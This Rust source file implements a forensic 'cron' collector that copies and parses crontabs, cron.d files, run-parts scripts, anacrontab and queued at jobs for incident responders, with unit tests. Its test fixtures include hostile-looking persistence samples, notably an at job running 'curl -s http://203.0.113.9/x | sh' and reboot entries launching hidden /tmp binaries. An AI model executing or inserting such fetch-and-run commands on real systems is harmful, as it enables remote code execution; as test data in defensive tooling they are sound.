//! The `cron` collector: `/etc/crontab`, `/etc/cron.d/*`, the run-parts directories
//! (`/etc/cron.{hourly,daily,weekly,monthly}`), user spools (Debian's
//! `/var/spool/cron/crontabs/*` and Red Hat's `/var/spool/cron/*`), `/etc/anacrontab`, and
//! queued `at` jobs. Files are copied verbatim; every scheduling line becomes a record, and a
//! line that cannot be parsed is recorded with its error rather than skipped.

use crate::util::{Accounts, ByteSize, DEFAULT_TEXT_CAP, name_text, ptext, split_fields};
use dossier_plugin_api::collect::{CollectError, IssueKind};
use dossier_plugin_api::encoding::bytes_to_text;
use dossier_plugin_api::host::FileKind;
use dossier_plugin_api::records::{AtJob, CronEntry, CronScript, Record, SourceRef};
use dossier_plugin_api::{CollectContext, Collector, CollectorInfo, Timestamp};
use serde::Deserialize;
use std::collections::BTreeMap;
use std::path::Path;

/// The `cron` collector.
pub struct CronCollector;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Config {
    #[serde(default = "default_cap")]
    max_file_size: ByteSize,
}

fn default_cap() -> ByteSize {
    ByteSize(DEFAULT_TEXT_CAP)
}

/// Which crontab syntax a file uses.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Format {
    /// With a user field (`/etc/crontab`, `/etc/cron.d/*`).
    System,
    /// Without (spool files).
    User,
    /// `/etc/anacrontab`: period, delay, job id, command.
    Anacron,
}

impl Format {
    fn name(self) -> &'static str {
        match self {
            Format::System => "system",
            Format::User => "user",
            Format::Anacron => "anacron",
        }
    }
}

const SPECIALS: &[&str] = &[
    "reboot", "yearly", "annually", "monthly", "weekly", "daily", "midnight", "hourly",
];
const MAX_LINE: usize = 64 << 10;

impl Collector for CronCollector {
    fn info(&self) -> CollectorInfo {
        CollectorInfo {
            name: "cron".into(),
            version: crate::util::VERSION.into(),
            description: "Crontabs (system, cron.d, user spools), run-parts directories, anacrontab and at jobs".into(),
            after: vec![],
        }
    }

    fn validate_config(&self, config: &serde_json::Value) -> Result<(), String> {
        crate::util::validate::<Config>(config)
    }

    fn collect(&self, ctx: &mut CollectContext<'_>) -> Result<(), CollectError> {
        let cap = ctx.config::<Config>()?.max_file_size.0;
        crontab(ctx, Path::new("/etc/crontab"), Format::System, "root", cap)?;
        for (path, _) in files_in(ctx, Path::new("/etc/cron.d")) {
            crontab(ctx, &path, Format::System, "root", cap)?;
        }
        crontab(
            ctx,
            Path::new("/etc/anacrontab"),
            Format::Anacron,
            "root",
            cap,
        )?;
        for period in ["hourly", "daily", "weekly", "monthly", "yearly"] {
            let dir = format!("/etc/cron.{period}");
            for (path, name) in entries_in(ctx, Path::new(&dir)) {
                script(ctx, &path, &name, period, cap)?;
            }
        }
        // Debian/Ubuntu user spools, then Red Hat's (files directly in /var/spool/cron).
        for (path, name) in files_in(ctx, Path::new("/var/spool/cron/crontabs")) {
            crontab(ctx, &path, Format::User, &name, cap)?;
        }
        for (path, name) in files_in(ctx, Path::new("/var/spool/cron")) {
            crontab(ctx, &path, Format::User, &name, cap)?;
        }
        for dir in ["/var/spool/cron/atjobs", "/var/spool/at"] {
            let accounts = Accounts::load(ctx);
            for (path, name) in files_in(ctx, Path::new(dir)) {
                if name.starts_with('.') {
                    continue;
                }
                at_job(ctx, &path, &name, &accounts, cap)?;
            }
        }
        for f in [
            "/etc/cron.allow",
            "/etc/cron.deny",
            "/etc/at.allow",
            "/etc/at.deny",
        ] {
            ctx.capture(Path::new(f), cap);
        }
        Ok(())
    }
}

/// Regular files (and links to them) in a directory, by name. Other types are recorded as
/// issues: cron itself would ignore them, a responder wants to know they are there.
fn files_in(ctx: &mut CollectContext<'_>, dir: &Path) -> Vec<(std::path::PathBuf, String)> {
    let mut out = Vec::new();
    for (path, name) in entries_in(ctx, dir) {
        match ctx.host().stat(&path) {
            Ok(m) if m.kind == FileKind::File => out.push((path, name)),
            Ok(m) if m.kind == FileKind::Dir => {}
            Ok(m) => ctx.issue(
                ptext(&path),
                IssueKind::Error(dossier_plugin_api::HostErrorKind::NotRegular),
                format!("{} where a crontab is expected; not opened", m.kind.name()),
            ),
            Err(e) if e.is_not_found() => {
                ctx.issue(ptext(&path), IssueKind::Malformed, "dangling symlink")
            }
            Err(e) => ctx.host_error(&e),
        }
    }
    out
}

fn entries_in(ctx: &mut CollectContext<'_>, dir: &Path) -> Vec<(std::path::PathBuf, String)> {
    ctx.list_dir(dir)
        .unwrap_or_default()
        .into_iter()
        .map(|e| (dir.join(&e.name), name_text(&e.name)))
        .collect()
}

fn crontab(
    ctx: &mut CollectContext<'_>,
    path: &Path,
    format: Format,
    owner: &str,
    cap: u64,
) -> Result<(), CollectError> {
    let Some(c) = ctx.capture(path, cap) else {
        return Ok(());
    };
    let source = c.source_ref(path);
    for (line, len) in long_lines(&c.data) {
        ctx.issue(
            ptext(path),
            IssueKind::Truncated,
            format!(
                "line {line} is {len} bytes; its record keeps the first {MAX_LINE} (the raw copy is whole)"
            ),
        );
    }
    let (entries, env_omitted) = parse_crontab_counted(&c.data, format, owner, &source);
    if env_omitted > 0 {
        ctx.issue(
            ptext(path),
            IssueKind::Truncated,
            format!(
                "{env_omitted} entries recorded without their variables: the file's variables exceed {ENV_BUDGET} bytes over all entries (the raw copy is whole)"
            ),
        );
    }
    let bad = entries.iter().filter(|e| e.parse_error.is_some()).count();
    if bad > 0 {
        ctx.issue(
            ptext(path),
            IssueKind::Malformed,
            format!("{bad} line(s) could not be parsed; they are recorded with parse_error"),
        );
    }
    for e in entries {
        ctx.emit(&Record::CronEntry(e))?;
    }
    Ok(())
}

/// Lines longer than `MAX_LINE` bytes (which records keep only in part): (1-based line
/// number, length in bytes).
pub fn long_lines(data: &[u8]) -> Vec<(u32, usize)> {
    data.split(|b| *b == b'\n')
        .enumerate()
        .filter(|(_, l)| l.strip_suffix(b"\r").unwrap_or(l).len() > MAX_LINE)
        .map(|(i, l)| ((i + 1) as u32, l.len()))
        .collect()
}

/// Parses a crontab. Every non-comment, non-variable line yields an entry; a line longer than
/// 64 KiB is parsed from its first 64 KiB (see [`long_lines`]).
pub fn parse_crontab(
    data: &[u8],
    format: Format,
    owner: &str,
    source: &SourceRef,
) -> Vec<CronEntry> {
    parse_crontab_counted(data, format, owner, source).0
}

/// Most bytes of variables copied into the entries of one crontab. Each entry carries the
/// variables set before it, so a hostile file of many variables and many entries would
/// otherwise make records quadratic in its size.
pub const ENV_BUDGET: usize = 16 << 20;

/// [`parse_crontab`], and how many entries were given no `env` because the file's variables
/// had used up [`ENV_BUDGET`].
pub fn parse_crontab_counted(
    data: &[u8],
    format: Format,
    owner: &str,
    source: &SourceRef,
) -> (Vec<CronEntry>, usize) {
    let mut env: BTreeMap<String, String> = BTreeMap::new();
    let mut env_bytes = 0usize;
    let mut budget = ENV_BUDGET;
    let mut omitted = 0usize;
    let mut out = Vec::new();
    for (i, raw) in data.split(|b| *b == b'\n').enumerate() {
        let raw = raw.strip_suffix(b"\r").unwrap_or(raw);
        let raw = if raw.len() > MAX_LINE {
            &raw[..MAX_LINE]
        } else {
            raw
        };
        let line = bytes_to_text(raw).replace("%09", "\t");
        let t = line.trim();
        if t.is_empty() || t.starts_with('#') {
            continue;
        }
        let lineno = (i + 1) as u32;
        if let Some((k, v)) = env_assignment(t) {
            env_bytes += k.len() + v.len();
            if let Some(old) = env.insert(k.clone(), v) {
                env_bytes -= k.len() + old.len();
            }
            continue;
        }
        let env = if env_bytes <= budget {
            budget -= env_bytes;
            env.clone()
        } else {
            omitted += 1;
            BTreeMap::new()
        };
        let mut e = CronEntry {
            source: source.clone(),
            line: lineno,
            format: format.name().into(),
            owner: owner.into(),
            env,
            ..Default::default()
        };
        let result = match format {
            Format::Anacron => parse_anacron(t, &mut e),
            _ => parse_cron_line(t, format, owner, &mut e),
        };
        if let Err(msg) = result {
            e.parse_error = Some(msg);
            e.command = t.to_string();
            e.schedule.clear();
            e.special = None;
        }
        out.push(e);
    }
    (out, omitted)
}

/// `NAME = value` (cron's load_env): a name, optional blanks, `=`, and a value that may be
/// quoted.
fn env_assignment(t: &str) -> Option<(String, String)> {
    let first = t.chars().next()?;
    if !(first.is_ascii_alphabetic() || first == '_') {
        return None;
    }
    let eq = t.find('=')?;
    let name = t[..eq].trim_end();
    if !name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
        return None;
    }
    let v = t[eq + 1..].trim();
    let v = v
        .strip_prefix('"')
        .and_then(|x| x.strip_suffix('"'))
        .or_else(|| v.strip_prefix('\'').and_then(|x| x.strip_suffix('\'')))
        .unwrap_or(v);
    Some((name.to_string(), v.to_string()))
}

fn valid_time_field(f: &str) -> bool {
    !f.is_empty()
        && f.chars()
            .all(|c| c.is_ascii_alphanumeric() || "*,/-~".contains(c))
}

fn parse_cron_line(t: &str, format: Format, owner: &str, e: &mut CronEntry) -> Result<(), String> {
    let need_user = format == Format::System;
    let rest;
    if let Some(sp) = t.strip_prefix('@') {
        let f = split_fields(sp, 2);
        let word = f.first().copied().unwrap_or("");
        if !SPECIALS.contains(&word) {
            return Err(format!("unknown schedule @{word}"));
        }
        e.schedule = format!("@{word}");
        e.special = Some(if word == "annually" {
            "yearly".into()
        } else if word == "midnight" {
            "daily".into()
        } else {
            word.to_string()
        });
        rest = f.get(1).copied().unwrap_or("");
    } else {
        let f = split_fields(t, 6);
        if f.len() < 6 || !f[..5].iter().all(|x| valid_time_field(x)) {
            return Err("expected five time fields and a command".into());
        }
        e.schedule = f[..5].join(" ");
        rest = f[5];
    }
    let command = if need_user {
        let f = split_fields(rest, 2);
        if f.len() < 2 {
            return Err("expected a user field and a command".into());
        }
        e.run_as = f[0].to_string();
        f[1]
    } else {
        e.run_as = owner.to_string();
        rest
    };
    if command.trim().is_empty() {
        return Err("empty command".into());
    }
    let (cmd, stdin) = split_percent(command);
    e.command = cmd;
    e.stdin = stdin;
    Ok(())
}

fn parse_anacron(t: &str, e: &mut CronEntry) -> Result<(), String> {
    let f = split_fields(t, 4);
    if f.len() < 4 {
        return Err("expected period, delay, job id and command".into());
    }
    let period_ok = f[0].parse::<u32>().is_ok()
        || ["@daily", "@weekly", "@monthly", "@yearly", "@annually"].contains(&f[0]);
    if !period_ok || f[1].parse::<u32>().is_err() {
        return Err("period and delay must be numbers (or @monthly etc.)".into());
    }
    e.schedule = f[..3].join(" ");
    e.special = f[0].strip_prefix('@').map(str::to_string);
    e.run_as = "root".into();
    e.command = f[3].to_string();
    Ok(())
}

/// Splits at the first `%` not escaped by a backslash; `\%` becomes `%` in the command.
fn split_percent(cmd: &str) -> (String, Option<String>) {
    // Record text escapes '%' as "%25"; undo that view for the split, then re-escape.
    let real = cmd.replace("%25", "\u{0}");
    let mut out = String::new();
    let mut chars = real.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' && chars.peek() == Some(&'\u{0}') {
            chars.next();
            out.push('\u{0}');
            continue;
        }
        if c == '\u{0}' {
            let stdin: String = chars.collect();
            return (
                out.replace('\u{0}', "%25"),
                Some(stdin.replace('\u{0}', "%25")),
            );
        }
        out.push(c);
    }
    (out.replace('\u{0}', "%25"), None)
}

fn script(
    ctx: &mut CollectContext<'_>,
    path: &Path,
    name: &str,
    period: &str,
    cap: u64,
) -> Result<(), CollectError> {
    let Some(meta) = ctx.lstat(path) else {
        return Ok(());
    };
    if meta.kind == FileKind::Dir {
        return Ok(());
    }
    let link_target = if meta.kind == FileKind::Symlink {
        ctx.read_link(path).map(|t| ptext(&t))
    } else {
        None
    };
    let target_meta = if meta.kind == FileKind::Symlink {
        ctx.host().stat(path).ok()
    } else {
        Some(meta.clone())
    };
    let source = match target_meta.as_ref().map(|m| m.kind) {
        Some(FileKind::File) => ctx.capture(path, cap).map(|c| c.source_ref(path)),
        Some(k) => {
            ctx.issue(
                ptext(path),
                IssueKind::Error(dossier_plugin_api::HostErrorKind::NotRegular),
                format!("{} in a run-parts directory; not opened", k.name()),
            );
            None
        }
        None => None,
    };
    // run-parts (Debian) runs executables whose names are made of letters, digits, _ and -.
    let runs = target_meta
        .as_ref()
        .is_some_and(|m| m.kind == FileKind::File && m.is_executable())
        && !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-');
    ctx.emit(&Record::CronScript(CronScript {
        path: ptext(path),
        period: period.into(),
        meta: target_meta,
        runs,
        link_target,
        source,
    }))
}

fn at_job(
    ctx: &mut CollectContext<'_>,
    path: &Path,
    name: &str,
    accounts: &Accounts,
    cap: u64,
) -> Result<(), CollectError> {
    let Some(c) = ctx.capture(path, cap) else {
        return Ok(());
    };
    let owner = accounts
        .name(c.meta.uid)
        .map(str::to_string)
        .or_else(|| Some(c.meta.uid.to_string()));
    let job = AtJob {
        path: ptext(path),
        source: c.source_ref(path),
        meta: Some(c.meta.clone()),
        owner,
        run_at: at_run_time(name),
        commands: at_commands(&c.data),
    };
    ctx.emit(&Record::AtJob(job))
}

/// at's spool names are `<queue><5 hex job number><8 hex minutes since the epoch>`.
pub fn at_run_time(name: &str) -> Option<Timestamp> {
    if name.len() != 14 || !name.is_ascii() {
        return None;
    }
    let minutes = u64::from_str_radix(&name[6..], 16).ok()?;
    Timestamp::from_unix((minutes * 60) as i64, 0)
}

/// The user's commands in an at job: what follows at's preamble (environment exports and the
/// `cd ... || { ... }` block).
pub fn at_commands(data: &[u8]) -> String {
    let text = bytes_to_text(data)
        .replace("%0A", "\n")
        .replace("%09", "\t");
    let lines: Vec<&str> = text.lines().collect();
    let start = lines.iter().position(|l| l.starts_with("cd ")).map(|i| {
        let mut j = i + 1;
        while j < lines.len() && !lines[j].trim_start().starts_with('}') {
            j += 1;
        }
        (j + 1).min(lines.len())
    });
    match start {
        Some(s) => lines[s..].join("\n").trim().to_string(),
        None => text.trim().to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dossier_plugin_api::testing::{MemHost, run_collector};

    fn src() -> SourceRef {
        SourceRef::path_only("/etc/crontab")
    }

    #[test]
    fn system_crontab_lines() {
        let data = b"SHELL=/bin/sh\nPATH = \"/usr/local/sbin:/usr/bin\"\n# m h dom mon dow user command\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n@reboot root /var/log/log >/dev/null 2>&1\n*/5 * * * * nobody echo 50\\% done % input\n";
        let e = parse_crontab(data, Format::System, "root", &src());
        assert_eq!(e.len(), 3);
        assert_eq!(e[0].schedule, "17 * * * *");
        assert_eq!(e[0].run_as, "root");
        assert_eq!(e[0].command, "cd / && run-parts --report /etc/cron.hourly");
        assert_eq!(e[0].env["PATH"], "/usr/local/sbin:/usr/bin");
        assert_eq!(e[1].special.as_deref(), Some("reboot"));
        assert_eq!(e[1].command, "/var/log/log >/dev/null 2>&1");
        assert_eq!(e[1].line, 5);
        assert_eq!(e[2].command, "echo 50%25 done ");
        assert_eq!(e[2].stdin.as_deref(), Some(" input"));
    }

    #[test]
    fn user_crontab_and_garbage() {
        let data = b"# DO NOT EDIT\r\n@reboot /tmp/.x/run\r\n* * * * *\r\n\x00\xffgarbage line here\n@every 5m /bin/true\n0 3 * * 1 /usr/bin/backup --all\n";
        let e = parse_crontab(data, Format::User, "alice", &src());
        assert_eq!(e.len(), 5);
        assert_eq!(e[0].run_as, "alice");
        assert_eq!(e[0].command, "/tmp/.x/run");
        assert!(e[1].parse_error.is_some());
        assert!(e[2].parse_error.is_some());
        assert!(e[2].command.contains("%00%FF"));
        assert!(e[3].parse_error.as_deref().unwrap().contains("@every"));
        assert_eq!(e[4].command, "/usr/bin/backup --all");
    }

    #[test]
    fn long_lines_are_cut_and_reported() {
        let mut data = b"* * * * * root /bin/".to_vec();
        data.extend(std::iter::repeat_n(b'x', MAX_LINE));
        data.extend_from_slice(b"\r\n0 1 * * * root /usr/bin/next\n");
        assert_eq!(long_lines(&data), vec![(1, MAX_LINE + 21)]);
        let e = parse_crontab(&data, Format::System, "root", &src());
        assert_eq!(e[0].command.len(), MAX_LINE - 15);
        assert_eq!(e[1].command, "/usr/bin/next");
        assert!(long_lines(b"short\n").is_empty());
    }

    #[test]
    fn variables_copied_into_entries_are_bounded() {
        let mut data = Vec::new();
        for i in 0..64 {
            data.extend_from_slice(format!("V{i}=").as_bytes());
            data.extend(std::iter::repeat_n(b'v', 60 << 10));
            data.push(b'\n');
        }
        for _ in 0..10_000 {
            data.extend_from_slice(b"* * * * * root /bin/true\n");
        }
        let (e, omitted) = parse_crontab_counted(&data, Format::System, "root", &src());
        assert_eq!(e.len(), 10_000);
        let kept = e.iter().filter(|x| !x.env.is_empty()).count();
        assert!((1..10).contains(&kept), "{kept}");
        assert_eq!(omitted, 10_000 - kept);
    }

    #[test]
    fn anacrontab() {
        let e = parse_crontab(b"SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts /etc/cron.monthly\nbad line\n", Format::Anacron, "root", &src());
        assert_eq!(e[0].schedule, "1 5 cron.daily");
        assert_eq!(e[0].command, "run-parts --report /etc/cron.daily");
        assert_eq!(e[1].special.as_deref(), Some("monthly"));
        assert!(e[2].parse_error.is_some());
    }

    #[test]
    fn at_job_names_and_commands() {
        assert_eq!(
            at_run_time("a0000101c2d4e0").unwrap().to_rfc3339(),
            "2026-03-05T20:16:00Z"
        );
        assert_eq!(at_run_time("short"), None);
        let job = b"#!/bin/sh\n# atrun uid=0 gid=0\numask 22\nPATH=/usr/bin; export PATH\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\ncurl -s http://203.0.113.9/x | sh\n";
        assert_eq!(at_commands(job), "curl -s http://203.0.113.9/x | sh");
    }

    #[test]
    fn collects_every_location() {
        let h = MemHost::new(false)
            .file("/etc/passwd", "root:x:0:0::/root:/bin/sh\n")
            .file("/etc/crontab", "@reboot root /var/log/log\n")
            .file(
                "/etc/cron.d/sysstat",
                "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n",
            )
            .file("/etc/cron.d/.placeholder", "# keep\n")
            .exe("/etc/cron.daily/logrotate", "#!/bin/sh\n")
            .exe("/etc/cron.daily/backup.sh", "#!/bin/sh\n")
            .special("/etc/cron.d/fifo", FileKind::Fifo)
            .file("/var/spool/cron/crontabs/root", "@reboot /var/log/log\n")
            .file(
                "/var/spool/cron/atjobs/a00001019b2c3d",
                "cd /tmp || {\n}\n/tmp/payload\n",
            )
            .file(
                "/etc/anacrontab",
                "7 10 cron.weekly run-parts /etc/cron.weekly\n",
            )
            .link("/etc/cron.d/dangling", "/nowhere");
        let (sink, r) = run_collector(
            &CronCollector,
            &h,
            serde_json::Value::Null,
            &Default::default(),
        );
        r.unwrap();
        let entries = sink.of_kind("cron", "cron_entry");
        let reboot: Vec<_> = entries
            .iter()
            .filter(|e| e["special"] == "reboot")
            .collect();
        assert_eq!(reboot.len(), 2);
        assert!(
            reboot
                .iter()
                .any(|e| e["source"]["path"] == "/var/spool/cron/crontabs/root"
                    && e["format"] == "user"
                    && e["owner"] == "root")
        );
        assert!(entries.iter().any(|e| e["format"] == "anacron"));
        let scripts = sink.of_kind("cron", "cron_script");
        let runs: BTreeMap<_, _> = scripts
            .iter()
            .map(|s| {
                (
                    s["path"].as_str().unwrap().to_string(),
                    s["runs"].as_bool().unwrap(),
                )
            })
            .collect();
        assert!(runs["/etc/cron.daily/logrotate"]);
        assert!(
            !runs["/etc/cron.daily/backup.sh"],
            "run-parts skips names with dots"
        );
        assert_eq!(
            sink.of_kind("cron", "at_job")[0]["commands"],
            "/tmp/payload"
        );
        assert_eq!(sink.issues_about("/etc/cron.d/fifo").len(), 1);
        assert_eq!(sink.issues_about("/etc/cron.d/dangling").len(), 1);
        assert!(sink.raw.contains_key("raw/etc/cron.d/sysstat"));
    }
}
